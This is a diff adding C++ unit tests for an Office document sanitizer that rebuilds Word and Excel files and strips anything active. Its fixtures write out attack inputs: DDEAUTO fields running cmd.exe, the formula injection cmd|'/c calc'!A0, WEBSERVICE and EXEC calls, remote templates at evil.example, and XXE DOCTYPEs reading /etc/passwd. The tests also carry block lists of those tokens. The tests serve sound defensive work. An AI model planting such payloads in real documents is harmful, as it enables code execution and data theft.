@@ -1,0 +1,360 @@
+// H3: a document is written anew from what is listed; everything with power stays behind and is
+// named.
+#include "sanitizer/rebuild/office_code.hh"
+#include "sanitizer/rebuild/rebuild.hh"
+#include "sanitizer/verify/verify.hh"
+#include "sanitizer/zip/unpack.hh"
+#include "tests/unit/sanitizer/corpus.hh"
+#include "tests/unit/sanitizer/support/make_ooxml.hh"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+
+namespace sekisho::rebuild {
+namespace {
+
+using support::make_docx;
+using support::make_package;
+using support::make_xlsx;
+using support::Members;
+using support::relationships;
+
+job::Plan plan() {
+  job::Plan plan;
+  plan.treatments[static_cast<std::size_t>(job::KindClass::office)] = job::Treatment::rebuild;
+  plan.treatments[static_cast<std::size_t>(job::KindClass::image)] = job::Treatment::render;
+  return plan;
+}
+
+job::Outcome run(const std::string &octets, const job::Plan &chosen = plan()) {
+  job::Job job;
+  job.plan = chosen;
+  job.bytes = as_bytes(octets);
+  const TreatFile here = [](const job::Job &file) { return rebuild::file(file); };
+  job::Outcome outcome = file(job, here);
+  if (outcome.status == job::Status::clean) {
+    EXPECT_TRUE(verify::Verifier::accept(outcome.output_kind, Untrusted(outcome.output)));
+    EXPECT_EQ(file(job, here).output, outcome.output) << "the same again";
+  }
+  return outcome;
+}
+
+/// All parts of a result, one after the other.
+std::string all_of(const job::Outcome &outcome) {
+  EXPECT_EQ(outcome.status, job::Status::clean) << word_of(outcome.reason);
+  const zip::Archive archive = zip::read(outcome.output);
+  EXPECT_EQ(archive.first_fault().reason, Reason::none);
+  std::string all;
+  zip::Unpacker unpacker;
+  for (const zip::Member &member : archive.members)
+    all += member.name + "\n" + std::string(as_chars(*unpacker.unpack(member))) + "\n";
+  return all;
+}
+
+bool says(const job::Outcome &outcome, Reason reason) {
+  const std::vector<Reason> &reasons = outcome.report.parts.at(0).reasons;
+  return std::find(reasons.begin(), reasons.end(), reason) != reasons.end();
+}
+
+#define EXPECT_HAS(all, text) EXPECT_NE((all).find(text), std::string::npos) << (all)
+#define EXPECT_LACKS(all, text) EXPECT_EQ((all).find(text), std::string::npos) << (all)
+
+std::string paragraph(const std::string &text) {
+  return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>";
+}
+
+TEST(Ooxml, text_stays_and_is_escaped_anew) {
+  const std::string all =
+      all_of(run(make_docx(paragraph("議事録 &amp; &lt;予算&gt; &#x8868;<![CDATA[<&]]>") +
+                           "<!-- note --><?run this?>")));
+  EXPECT_HAS(all, "<w:t>議事録 &amp; &lt;予算&gt; 表&lt;&amp;</w:t>");
+  EXPECT_LACKS(all, "note");
+  EXPECT_LACKS(all, "run this");
+}
+
+TEST(Ooxml, macros) {
+  const std::string docm =
+      make_docx(paragraph("text"), {{"word/vbaProject.bin", "Sub AutoOpen()"},
+                                    {"word/_rels/document.xml.rels",
+                                     relationships({{"rId1", "vbaProject", "vbaProject.bin"}})}});
+  const job::Outcome outcome = run(docm);
+  EXPECT_EQ(outcome.output_kind, job::Kind::ooxml_word);
+  EXPECT_TRUE(says(outcome, Reason::office_rebuilt));
+  EXPECT_TRUE(says(outcome, Reason::office_macro));
+  EXPECT_LACKS(all_of(outcome), "vba");
+  EXPECT_LACKS(all_of(outcome), "AutoOpen");
+}
+
+TEST(Ooxml, outside_templates_and_links) {
+  const job::Outcome outcome = run(make_docx(
+      "<w:p><w:hyperlink r:id=\"rId2\"><w:r><w:t>here</w:t></w:r></w:hyperlink></w:p>",
+      {{"word/settings.xml",
+        std::string("<w:settings") + support::namespaces +
+            "><w:attachedTemplate r:id=\"rId1\"/><w:zoom w:percent=\"100\"/></w:settings>"},
+       {"word/_rels/settings.xml.rels",
+        relationships({{"rId1", "attachedTemplate", "http://evil.example/a.dotm", "External"}})},
+       {"word/_rels/document.xml.rels",
+        relationships({{"rId1", "settings", "settings.xml"},
+                       {"rId2", "hyperlink", "http://evil.example/", "External"},
+                       {"rId3", "image", "http://evil.example/x.png", "External"},
+                       {"rId4", "frame", "file://host/share", "External"}})}}));
+  const std::string all = all_of(outcome);
+  EXPECT_HAS(all, ">here<");
+  EXPECT_HAS(all, "<w:zoom w:percent=\"100\"/>");
+  for (const char *gone : {"evil", "External", "attachedTemplate", "hyperlink", "file:"})
+    EXPECT_LACKS(all, gone);
+  EXPECT_TRUE(says(outcome, Reason::office_external));
+  EXPECT_TRUE(says(outcome, Reason::office_link_to_text));
+}
+
+std::string field(const std::string &code, const std::string &shown) {
+  return "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + code +
+         "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>" + shown +
+         "</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
+}
+
+std::string code(const std::string &text) {
+  return "<w:r><w:instrText>" + text + "</w:instrText></w:r>";
+}
+
+TEST(Ooxml, fields) {
+  const job::Outcome outcome = run(make_docx(
+      field(code(" PAGE "), "7") +
+      field(code("DDEA") + "<w:del><w:r><w:delInstrText>x</w:delInstrText></w:r></w:del>" +
+                code("UTO c:\\\\cmd.exe /k calc"),
+            "8") +
+      field(code(" QUOTE ") + field(code("DDE x y"), "9") + code("z"), "10") +
+      field(code(" HYPERLINK \\l \"_Toc1\" "), "11") +
+      field(code(" HYPERLINK \"http://evil.example\" \\l \"x\" "), "12") +
+      "<w:p><w:fldSimple w:instr=\"INCLUDEPICTURE "
+      "http://evil.example/x\"><w:r><w:t>13</w:t></w:r></w:fldSimple></w:p>" +
+      "<w:p>" + code("DDE stray") + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" +
+      code("DDE open") + "</w:p>"));
+  const std::string all = all_of(outcome);
+  for (const char *stays :
+       {" PAGE ", ">7<", ">8<", ">10<", "HYPERLINK \\l", ">11<", ">12<", ">13<"})
+    EXPECT_HAS(all, stays);
+  for (const char *gone : {"DDE", "UTO", "cmd.exe", "evil", "QUOTE", "stray", "INCLUDE"})
+    EXPECT_LACKS(all, gone);
+  EXPECT_TRUE(says(outcome, Reason::office_dde));
+}
+
+TEST(Ooxml, embedded_objects_and_controls) {
+  const job::Outcome outcome =
+      run(make_docx("<w:p><w:r><w:object><v:shape id=\"s\"><v:imagedata "
+                    "r:id=\"rId2\"/></v:shape><o:OLEObject Type=\"Embed\" "
+                    "ProgID=\"Package\" r:id=\"rId1\"/></w:object></w:r><w:r><w:control "
+                    "r:id=\"rId3\"/></w:r></w:p><w:altChunk r:id=\"rId4\"/>",
+                    {{"word/embeddings/oleObject1.bin", "MZ"},
+                     {"word/activeX/activeX1.xml", "<x/>"},
+                     {"word/chunk.html", "<script>"},
+                     {"word/_rels/document.xml.rels",
+                      relationships({{"rId1", "oleObject", "embeddings/oleObject1.bin"},
+                                     {"rId3", "control", "activeX/activeX1.xml"},
+                                     {"rId4", "aFChunk", "chunk.html"}})}}));
+  const std::string all = all_of(outcome);
+  for (const char *gone :
+       {"OLEObject", "oleObject", "Package", "control", "activeX", "altChunk", "script", "MZ"})
+    EXPECT_LACKS(all, gone);
+  EXPECT_TRUE(says(outcome, Reason::office_embedded));
+}
+
+TEST(Ooxml, tracked_changes_by_rule) {
+  const std::string docx =
+      make_docx("<w:p><w:ins w:author=\"A\"><w:r><w:t>new</w:t></w:r></w:ins><w:del "
+                "w:author=\"A\"><w:r><w:delText>old</w:delText></w:r></w:del>"
+                "<w:commentRangeStart w:id=\"1\"/></w:p><w:tbl><w:tr><w:trPr><w:del "
+                "w:id=\"1\"/></w:trPr><w:tc>" +
+                paragraph("row") + "</w:tc></w:tr></w:tbl>");
+  const job::Outcome removed = run(docx);
+  EXPECT_HAS(all_of(removed), "new");
+  for (const char *gone : {"old", "row", "author", "comment"})
+    EXPECT_LACKS(all_of(removed), gone);
+  EXPECT_TRUE(says(removed, Reason::office_tracked_removed));
+  job::Plan keeping = plan();
+  keeping.tracked = job::Beside::keep;
+  const job::Outcome kept = run(docx, keeping);
+  for (const char *stays : {"new", "old", "row", "w:author=\"A\""})
+    EXPECT_HAS(all_of(kept), stays);
+  EXPECT_TRUE(says(kept, Reason::office_tracked));
+}
+
+TEST(Ooxml, hidden_by_rule) {
+  const std::string docx =
+      make_docx("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r></w:p>");
+  EXPECT_HAS(all_of(run(docx)), "secret");
+  EXPECT_TRUE(says(run(docx), Reason::office_hidden));
+  job::Plan removing = plan();
+  removing.hidden = job::Beside::remove;
+  EXPECT_LACKS(all_of(run(docx, removing)), "secret");
+  const std::string cells =
+      "<cols><col min=\"2\" max=\"2\" hidden=\"1\"/></cols><sheetData><row r=\"1\"><c "
+      "r=\"A1\"><v>1001</v></c><c r=\"B1\"><v>1002</v></c></row>"
+      "<row r=\"2\" hidden=\"1\"><c r=\"A2\"><v>1003</v></c></row></sheetData>";
+  const std::string xlsx =
+      make_xlsx({cells, "<sheetData><row r=\"1\"><c r=\"A1\"><v>1004</v></c></row></sheetData>"},
+                "", " state=\"veryHidden\"");
+  for (const char *cell : {"1001", "1002", "1003", "1004"})
+    EXPECT_HAS(all_of(run(xlsx)), cell);
+  const std::string all = all_of(run(xlsx, removing));
+  EXPECT_HAS(all, "1001");
+  for (const char *cell : {"1002", "1003", "1004"})
+    EXPECT_LACKS(all, cell);
+}
+
+TEST(Ooxml, formulas) {
+  const auto cell = [](const std::string &formula) {
+    return "<c r=\"A1\"><f>" + formula + "</f><v>5</v></c>";
+  };
+  const std::string xlsx = make_xlsx(
+      {"<sheetData><row r=\"1\">" + cell("SUM(B1:B2)") +
+       cell("WEBSERVICE(\"http://evil.example\")") + cell("cmd|'/c calc'!A0") +
+       cell("[1]Sheet1!A1") + cell("'file:///x/[a.xls]S'!A1") + cell("GoodName+1") +
+       cell("EvilName+1") + cell("_xlfn.XLOOKUP(1,A:A,B:B)") +
+       "<c r=\"A2\"><f t=\"shared\" ref=\"A2:A3\" si=\"0\">CALL(1)</f><v>5</v></c><c r=\"A3\"><f "
+       "t=\"shared\" si=\"0\"/><v>5</v></c>"
+       "</row></sheetData><conditionalFormatting sqref=\"A1\"><cfRule "
+       "type=\"expression\"><formula>RTD(1)</formula></cfRule></conditionalFormatting>"},
+      "<definedNames><definedName name=\"GoodName\">Sheet1!$A$1</definedName><definedName "
+      "name=\"EvilName\">EXEC(\"calc\")</definedName>"
+      "<definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName></definedNames>");
+  const job::Outcome outcome = run(xlsx);
+  const std::string all = all_of(outcome);
+  for (const char *stays : {"SUM(B1:B2)", "GoodName+1", "_xlfn.XLOOKUP", "<v>5</v>"})
+    EXPECT_HAS(all, stays);
+  for (const char *gone : {"WEBSERVICE", "evil", "cmd", "[1]", "file:", "EvilName", "EXEC",
+                           "Auto_Open", "CALL", "shared", "RTD", "conditionalFormatting"})
+    EXPECT_LACKS(all, gone);
+  EXPECT_TRUE(says(outcome, Reason::office_dde));
+  EXPECT_TRUE(says(outcome, Reason::office_formula_to_value));
+  job::Plan values = plan();
+  values.formulas = job::Formulas::values;
+  EXPECT_LACKS(all_of(run(xlsx, values)), "<f");
+}
+
+TEST(Ooxml, data_behind_a_workbook) {
+  const job::Outcome outcome = run(make_xlsx(
+      {"<sheetData/><pageSetup r:id=\"rId1\" orientation=\"landscape\"/>"},
+      "<externalReferences><externalReference r:id=\"e1\"/></externalReferences><pivotCaches/>", "",
+      {{"xl/externalLinks/externalLink1.xml",
+        "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"},
+       {"xl/connections.xml", "<connections/>"},
+       {"xl/pivotCache/d.xml", "<x/>"},
+       {"customXml/item1.xml", "<secret/>"},
+       {"xl/worksheets/_rels/sheet1.xml.rels",
+        relationships({{"rId1", "printerSettings", "../printerSettings/p.bin"}})},
+       {"xl/printerSettings/p.bin", "\\\\server\\printer"}},
+      {{"e1", "externalLink", "externalLinks/externalLink1.xml"},
+       {"c1", "connections", "connections.xml"},
+       {"p1", "pivotCacheDefinition", "pivotCache/d.xml"},
+       {"x1", "customXml", "../customXml/item1.xml"}}));
+  const std::string all = all_of(outcome);
+  EXPECT_HAS(all, "orientation=\"landscape\"");
+  for (const char *gone : {"external", "dde", "connection", "pivot", "secret", "printer", "server"})
+    EXPECT_LACKS(all, gone);
+  EXPECT_TRUE(says(outcome, Reason::office_dde));
+  EXPECT_TRUE(says(outcome, Reason::office_external));
+  EXPECT_TRUE(says(outcome, Reason::office_data));
+}
+
+TEST(Ooxml, alternatives) {
+  const std::string all = all_of(run(make_docx(
+      "<w:p><w:r><mc:AlternateContent><mc:Choice "
+      "Requires=\"w14\"><w:t>unknown</w:t></mc:Choice><mc:Choice "
+      "Requires=\"wps\"><w:t>shape</w:t></mc:Choice>"
+      "<mc:Fallback><w:t>fallback</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>")));
+  EXPECT_HAS(all, "shape");
+  EXPECT_LACKS(all, "unknown");
+  EXPECT_LACKS(all, "fallback");
+  EXPECT_LACKS(all, "AlternateContent");
+}
+
+TEST(Ooxml, pictures_are_treated_elsewhere_or_a_grey_field) {
+  const std::string docx = make_docx(
+      "<w:p><w:r><w:drawing><a:blip r:embed=\"rId1\"/></w:drawing></w:r></w:p>",
+      {{"word/media/x.png", "\x89PNG\r\n\x1a\n broken, with <script>"},
+       {"word/_rels/document.xml.rels", relationships({{"rId1", "image", "media/x.png"}})}});
+  const job::Outcome outcome = run(docx);
+  EXPECT_HAS(all_of(outcome), "r:embed=\"rId1\"");
+  EXPECT_HAS(all_of(outcome), "word/media/image1.png");
+  EXPECT_LACKS(all_of(outcome), "script");
+  EXPECT_TRUE(says(outcome, Reason::office_picture_removed));
+}
+
+TEST(Ooxml, refused_by_name) {
+  const auto document = [](const std::string &xml) {
+    return make_package(
+        {{"[Content_Types].xml", ""},
+         {"_rels/.rels", relationships({{"rId1", "officeDocument", "word/document.xml"}})},
+         {"word/document.xml", xml}});
+  };
+  const std::string root = std::string("<w:document") + support::namespaces + ">";
+  EXPECT_EQ(run(document("<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>" + root +
+                         "&b;</w:document>"))
+                .reason,
+            Reason::xml_doctype);
+  EXPECT_EQ(
+      run(document("<!DOCTYPE x SYSTEM \"file:///etc/passwd\">" + root + "</w:document>")).reason,
+      Reason::xml_doctype);
+  EXPECT_EQ(run(document(root + "&undefined;</w:document>")).reason, Reason::part_malformed);
+  EXPECT_EQ(run(document(root + "<w:body>")).reason, Reason::part_malformed);
+  EXPECT_EQ(run(document(root + "<w:body w:a=\"1\" w:a=\"2\"/></w:document>")).reason,
+            Reason::part_malformed);
+  std::string deep = root;
+  for (int i = 0; i < 400; ++i)
+    deep += "<w:p>";
+  EXPECT_EQ(run(document(deep)).reason, Reason::part_too_deep);
+  std::string twice = make_docx(paragraph("a"), {{"WORD/document.xml", "<x/>"}});
+  EXPECT_EQ(run(twice).reason, Reason::zip_duplicate);
+}
+
+TEST(Ooxml, every_cut_and_change_is_clean_or_has_a_reason) {
+  const std::string whole = make_docx(field(code(" PAGE "), "7") + paragraph("text"));
+  for (std::size_t size = 0; size < whole.size(); size += 3)
+    EXPECT_NE(run(whole.substr(0, size)).status, job::Status::clean);
+  const std::string body =
+      field(code(" PAGE "), "7") + "<w:tbl><w:tr><w:trPr><w:del/></w:trPr></w:tr></w:tbl>";
+  for (std::size_t at = 0; at < body.size(); ++at)
+    for (const char octet : {'<', '>', '&', '"', '\0', ' '}) {
+      std::string other = body;
+      other[at] = octet;
+      const job::Outcome outcome = run(make_docx(other)); // verified there
+      EXPECT_EQ(outcome.status == job::Status::clean, outcome.reason == Reason::none);
+    }
+}
+
+TEST(OfficeCode, formulas) {
+  const LostNames lost = {"LOST"};
+  for (const char *calm : {"1+1", "SUM(A1:B2)", "\"|\"&A1", "'O''Brien'!A1",
+                           "Table1[[#This Row],[a|b]]", "IF(A1=\"WEBSERVICE(\",1,2)", "表!A1"})
+    EXPECT_EQ(judge_formula(calm, lost), Reason::none) << calm;
+  for (const char *never : {"webservice(1)", "=_xlfn.WEBSERVICE(1)", "Excel.Sheet.8|x!y", "'a|b'!c",
+                            "[1]A!B", "Lost", "lost*2", "MyMacro()", "'[x]y'!A1", "'open"})
+    EXPECT_NE(judge_formula(never, lost), Reason::none) << never;
+}
+
+TEST(OoxmlCorpus, all_verified_or_named) {
+  if (!corpus::present()) GTEST_SKIP() << "no corpus";
+  std::size_t clean = 0, refused = 0;
+  for (const char *folder : {"files/office/poi", "files/ja"})
+    for (const auto &entry :
+         std::filesystem::recursive_directory_iterator(corpus::folder() / folder)) {
+      const std::string extension = entry.path().extension();
+      if (extension.size() != 5 || (extension.back() != 'x' && extension.back() != 'm')) continue;
+      const std::string octets = corpus::read(entry.path());
+      if (!octets.starts_with("PK") || octets.size() > 100'000) continue;
+      const job::Outcome outcome = run(octets);
+      outcome.status == job::Status::clean ? ++clean : ++refused;
+      if (outcome.status == job::Status::clean) {
+        for (const char *gone : {"vbaProject", "TargetMode", "oleObject", "activeX", "externalLink",
+                                 "DDEAUTO", "attachedTemplate", "<!DOCTYPE"})
+          EXPECT_LACKS(all_of(outcome), gone) << entry.path();
+      }
+    }
+  EXPECT_GT(clean, 150u);
+  EXPECT_LT(refused, 20u);
+}
+
+} // namespace
+} // namespace sekisho::rebuild
